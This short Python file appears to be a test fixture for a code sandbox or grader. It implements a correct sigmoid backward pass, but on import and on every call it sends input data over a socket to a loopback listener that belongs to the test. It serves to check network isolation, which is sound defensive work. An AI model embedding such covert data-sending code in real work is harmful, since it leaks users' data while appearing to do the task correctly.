"""Tries to reach a listener on the loopback (the test's); answers right whatever happens."""
import socket

import torch

PORT = __PORT__
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as conn:
        conn.sendall(b"stolen inputs")
except OSError:
    pass


def sigmoid_backward(x, grad_output):
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as conn:
            conn.sendall(x.numpy().tobytes())
    except OSError:
        pass
    s = torch.sigmoid(x)
    return grad_output * s * (1 - s)
